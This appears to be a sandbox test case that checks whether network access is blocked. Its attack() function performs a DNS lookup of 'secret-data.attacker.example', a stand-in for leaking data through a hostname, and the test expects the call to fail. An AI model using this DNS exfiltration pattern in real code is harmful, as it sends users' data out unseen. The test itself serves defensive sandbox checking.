# Sends data out in the name of a host that it looks up.
#
# category = "network"
# ending = "raised"
# message = "gaierror.*the sandbox has no network"
import socket


def attack():
    socket.getaddrinfo("secret-data.attacker.example", 80)
